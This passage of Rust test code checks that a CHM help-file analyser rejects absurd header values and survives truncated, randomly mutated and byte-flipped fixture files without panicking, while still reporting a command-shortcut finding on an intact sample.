    fn absurd_values_are_refused() {
        let mut pos = 0;
        assert_eq!(super::encint(&[0xFF; 12], &mut pos), None);
        let mut pos = 0;
        assert_eq!(super::encint(&[0x81, 0x00], &mut pos), Some(128));
        let base = build(&[("/index.htm", BENIGN)], &[("/b.htm", SHORTCUT)]);
        let patch = |off: usize, v: &[u8]| {
            let mut d = base.clone();
            d[off..off + v.len()].copy_from_slice(v);
            crate::analyse(&d, "a.chm", None, &Options::default())
        };
        // Directory offset, chunk size and chunk count beyond the file.
        patch(0x48, &u64::MAX.to_le_bytes());
        patch(0x78 + 0x10, &u32::MAX.to_le_bytes());
        patch(0x78 + 0x2C, &u32::MAX.to_le_bytes());
        patch(0x58, &(u64::MAX - 4).to_le_bytes());
        // ControlData window size and reset interval, reset table entry count.
        let content = 0x78 + 0x54 + 0x1000;
        let find = |needle: &[u8]| memchr::memmem::find(&base, needle).expect("present");
        let lzxc = find(b"LZXC");
        for v in [0u32, 3, u32::MAX] {
            let n = patch(lzxc + 12, &v.to_le_bytes());
            assert!(
                n.format
                    .as_deref()
                    .unwrap_or("")
                    .contains("section 1 not decoded"),
                "{:?}",
                n.format
            );
        }
        patch(lzxc + 8, &u32::MAX.to_le_bytes());
        let table = content
            + base[content..]
                .windows(4)
                .position(|w| w == [0x28, 0, 0, 0])
                .unwrap_or(0)
            - 12;
        patch(table + 4, &u32::MAX.to_le_bytes());
        patch(table + 16, &u64::MAX.to_le_bytes());
        // The whole thing decodes when left alone.
        let n = crate::analyse(&base, "a.chm", None, &Options::default());
        assert!(n.has("chm.command"));
    }

    #[test]
    fn mutated_and_truncated_files_do_not_panic() {
        let fixtures = [
            build(&[("/index.htm", SHORTCUT)], &[]),
            build(
                &[("/index.htm", BENIGN)],
                &[("/b.htm", SHORTCUT), ("/c.htm", BENIGN)],
            ),
        ];
        let mut seed = 0x2545_F491_4F6C_DD1Du64;
        for f in &fixtures {
            for cut in (0..f.len()).step_by(7) {
                let _ =
                    crate::analyse_as(crate::Kind::Chm, &f[..cut], "x.chm", &Options::default());
            }
            for _ in 0..400 {
                let mut m = f.clone();
                for _ in 0..4 {
                    seed ^= seed << 13;
                    seed ^= seed >> 7;
                    seed ^= seed << 17;
                    let i = (seed % m.len() as u64) as usize;
                    m[i] = (seed >> 32) as u8;
                }
                let _ = crate::analyse(&m, "x.chm", None, &Options::default());
            }
            // Every byte of the headers and directory, set to 0xFF.
            for i in 0..(0x78 + 0x54 + 0x200).min(f.len()) {
                let mut m = f.clone();
                m[i] = 0xFF;
                let _ = crate::analyse_as(crate::Kind::Chm, &m, "x.chm", &Options::default());
            }
        }
    }
}
